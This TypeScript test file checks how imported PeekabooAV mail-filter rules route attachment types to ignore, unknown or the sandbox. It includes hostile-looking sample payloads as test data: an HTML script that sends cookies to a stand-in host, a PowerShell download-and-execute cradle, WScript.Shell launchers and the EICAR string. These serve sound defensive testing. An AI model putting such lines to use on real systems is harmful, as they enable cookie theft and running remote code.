import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import { MISSING_ROLE } from '../../../src/cli/import/losses.ts'
import type { Ruleset } from '../../../src/rules/index.ts'
import { BUILT_SAMPLES } from '../../facts/type/samples/index.ts'
import { assertGenerated, table } from '../../generated.ts'
import { carried, ends, loaded, report, type Sent, sampleOf } from './harness.ts'
import { SAMPLE_RULESET } from './samples.ts'

const EXE = 'application/vnd.microsoft.portable-executable'
const DOC = 'application/msword'

/** A content of this type. */
function content(type: string): Buffer {
  const bytes = BUILT_SAMPLES.find((one) => one.type === type)?.genuine[0]
  return bytes ?? assert.fail(`no sample of ${type}`)
}

const SCRIPT = Buffer.from('<html><body><script>location="//a.example/"+document.cookie</script></body></html>')
const MAIL = Buffer.from(
  'From: a@a.example\r\nTo: b@b.example\r\nSubject: x\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\n\r\ntext\r\n',
)
const POWERSHELL = Buffer.from(
  '$a = New-Object Net.WebClient\r\n$a.DownloadString("http://a.example") | Invoke-Expression\r\n',
)
const VBS = Buffer.from('Dim a\r\nSet a = CreateObject("WScript.Shell")\r\na.Run "calc"\r\n')
const JS = Buffer.from('var a = new ActiveXObject("WScript.Shell");\na.Run("calc");\n')
/** Signed data around nothing, with one signer. */
const SIGNATURE = Buffer.from(
  '303806092a864886f70d010702a02b3029020101310f300d06096086480165030402010500300b06092a864886f70d010701310630040201010400',
  'hex',
)
const PLAIN = Buffer.from('Only words, as they stand in any letter.\n')
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')

interface Row extends Sent {
  readonly what: string
  /** What PeekabooAV made of it: ignored and unknown were delivered without a sandbox. */
  readonly was: 'ignored' | 'unknown' | 'sandbox'
}

function row(
  was: Row['was'],
  what: string,
  name: string,
  bytes: Buffer,
  declared = '',
  disposition = 'attachment',
): Row {
  return { was, what, name, bytes, declared, disposition }
}

const BINARY = 'application/octet-stream'

/** Attachment classes and what the default rules of PeekabooAV made of them. */
const ROWS: readonly Row[] = [
  row('ignored', 'text', 'a.txt', PLAIN, 'text/plain'),
  row('ignored', 'nothing', 'a.txt', Buffer.alloc(0), 'text/plain'),
  row('ignored', 'a mail', 'a.eml', MAIL, 'message/rfc822'),
  row('ignored', 'S/MIME signature', 'smime.p7s', SIGNATURE, 'application/pkcs7-signature'),
  row('ignored', 'PGP signature', 'signature.asc', content('application/pgp-signature'), 'application/pgp-signature'),
  row('ignored', 'inline picture', 'a.png', content('image/png'), 'image/png', 'inline'),
  row('ignored', 'HTML with a script', 'a.html', SCRIPT, 'text/html'),
  row('ignored', 'PowerShell', 'a.ps1', POWERSHELL),
  row('ignored', 'PowerShell declared text', 'a.ps1', POWERSHELL, 'text/plain'),
  row('ignored', 'mere words named .ps1', 'a.ps1', PLAIN, 'text/plain'),
  row('ignored', 'VBScript declared text', 'a.vbs', VBS, 'text/plain'),
  row('ignored', 'encoded VBScript', 'a.vbe', content('application/x-ms-encoded-script'), 'text/plain'),
  row('ignored', 'Windows Script File', 'a.wsf', content('application/x-wsf'), 'text/plain'),
  row('unknown', 'JavaScript', 'a.js', JS),
  row('unknown', 'RTF', 'a.rtf', content('application/rtf')),
  row('unknown', 'HTML application', 'a.hta', content('application/hta')),
  row('unknown', 'shortcut', 'a.lnk', content('application/x-ms-shortcut')),
  row('unknown', 'disk image', 'a.iso', content('application/x-iso9660-image')),
  row('unknown', 'OneNote', 'a.one', content('application/onenote')),
  row('unknown', 'SVG with a script', 'a.svg', SVG),
  row('ignored', 'EXE declared an inline picture', 'a.png', content(EXE), 'image/png', 'inline'),
  row('ignored', 'EXE named smime.p7m', 'smime.p7m', content(EXE), 'application/pkcs7-mime'),
  row('ignored', 'EXE named smime.p7s', 'smime.p7s', content(EXE), 'application/pkcs7-signature'),
  row('ignored', 'EXE named signature.asc', 'signature.asc', content(EXE), 'application/pgp-signature'),
  row('sandbox', 'HTML declared octet-stream', 'a.html', SCRIPT, BINARY),
  row('sandbox', 'PowerShell declared octet-stream', 'a.ps1', POWERSHELL, BINARY),
  row('sandbox', 'JavaScript declared octet-stream', 'a.js', JS, BINARY),
  row('sandbox', 'shortcut declared octet-stream', 'a.lnk', content('application/x-ms-shortcut'), BINARY),
  row('sandbox', 'ZIP', 'a.zip', content('application/zip'), 'application/zip'),
  row('sandbox', 'EXE', 'a.exe', content(EXE), BINARY),
  row('sandbox', 'Word document', 'a.doc', content(DOC), DOC),
  row('sandbox', 'Word document named X.DOC', 'X.DOC', content(DOC), DOC),
  row('sandbox', 'PDF', 'a.pdf', content('application/pdf'), 'application/pdf'),
  row('sandbox', 'batch file', 'a.bat', content('application/x-bat'), 'text/plain'),
  row('sandbox', 'Excel add-in', 'a.xll', content('application/x-ms-excel-xll'), BINARY),
  row('sandbox', 'JAR', 'a.jar', content('application/java-archive'), 'application/java-archive'),
]

function imported(t: TestContext): Ruleset {
  const { items, problems } = carried(t, SAMPLE_RULESET)
  assert.deepEqual(problems, [])
  return loaded(items)
}

function wordFor(ruleset: Ruleset, sent: Row): string {
  const end = ends(ruleset, sent)
  return end === 'pending(sandbox)' ? 'sandbox' : end.replace(/ by .*/, '')
}

test('each attachment class ends as with PeekabooAV or, where it was a hole, in the sandbox; the page says which', (t) => {
  const ruleset = imported(t)
  const rows = ROWS.map((one) => {
    const is = wordFor(ruleset, one)
    return [
      one.what,
      one.name ?? '',
      one.declared || 'nothing',
      one.was,
      is,
      is === one.was ? 'reproduced' : 'changed: a hole',
    ]
  })

  for (const [what, , , was, is] of rows) assert.ok(is === was || is === 'sandbox', `${what}: ${was} → ${is}`)
  assert.equal(
    rows.filter((one) => one.at(-1) === 'reproduced').length,
    6 + ROWS.filter(({ was }) => was === 'sandbox').length,
  )
  const head = ['attachment', 'name', 'declared type', 'PeekabooAV', 'imported', '']
  assertGenerated('docs/import.md', 'reach', table(head, rows))
})

test('the sample ruleset converts completely: what is lost is the macro alone, and it stays a question', (t) => {
  const { items, problems } = carried(t, SAMPLE_RULESET)

  assert.deepEqual(problems, [])
  assert.deepEqual(
    items.flatMap(({ how, what }) => (how === 'guarded' || how === 'left-out' || how === 'unknown' ? [what] : [])),
    ['[expressions] expression.3'],
  )
})

test('the sandbox decides as it did: by signature, by score, and by its failure', (t) => {
  const ruleset = imported(t)
  const exe = { name: 'a.exe', bytes: content(EXE) }

  assert.equal(ends(ruleset, exe, report(4)), 'bad by peekabooav-cuckoo-score')
  assert.equal(
    ends(ruleset, exe, report(0, 'Creates a process that somehow hides')),
    'bad by peekabooav-cuckoo-evil-sig-1',
  )
  assert.equal(ends(ruleset, exe, report(3.9, 'Sleeps')), 'unknown by (none)')
  assert.equal(ends(ruleset, exe, { state: 'failed', cause: 'analyzer-failed' }), 'failed(analyzer-failed)')
  assert.equal(ends(ruleset, exe, { state: 'unmapped' }), 'unanalysed(sandbox)')
})

test('a pattern with parentheses does not match its own text, as before, and the comment says so', (t) => {
  const { items } = carried(t, SAMPLE_RULESET)
  const exe = { name: 'a.exe', bytes: content(EXE) }

  assert.equal(
    ends(loaded(items), exe, report(0, 'Collects facts about the host (ipconfig, systeminfo)')),
    'unknown by (none)',
  )
  const note = items.find(({ rule }) => rule?.id === 'peekabooav-cuckoo-evil-sig-2')?.notes?.join()
  assert.match(note ?? '', /parentheses/)
})

test('a document that may have macros and a middling score is never delivered for want of the fact', (t) => {
  const ruleset = loaded(
    carried(t, SAMPLE_RULESET.replace('rule.7: cuckoo_score\n', '').replace('rule.8', 'rule.7')).items,
  )
  const doc = { name: 'X.DOC', bytes: content(DOC) }

  assert.equal(ends(ruleset, doc, report(4.5)), `unanalysed(${MISSING_ROLE})`)
  assert.equal(ends(ruleset, doc, report(4)), 'unknown by (none)')
  assert.equal(ends(ruleset, { name: 'a.doc', bytes: content('application/pdf') }, report(4.5)), 'unknown by (none)')
})

test('what is odd in a way that hides things is let pass by no imported rule', (t) => {
  const ruleset = imported(t)
  const odd = (severity: string) => ({ anomalies: [{ name: 'cte-duplicate', severity, offset: 1 }] })
  const text = sampleOf({ name: 'a.txt', bytes: PLAIN, declared: 'text/plain' })

  assert.match(ends(ruleset, { ...text, ...odd('note') }), /^ignored by/)
  assert.equal(ends(ruleset, { ...text, ...odd('suspicious') }), 'pending(sandbox)')
})

test('the test files are found whatever the imported rules let pass', (t) => {
  const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

  assert.equal(ends(imported(t), { name: 'a.txt', bytes: eicar }), 'bad by peekabooav-test-string')
})
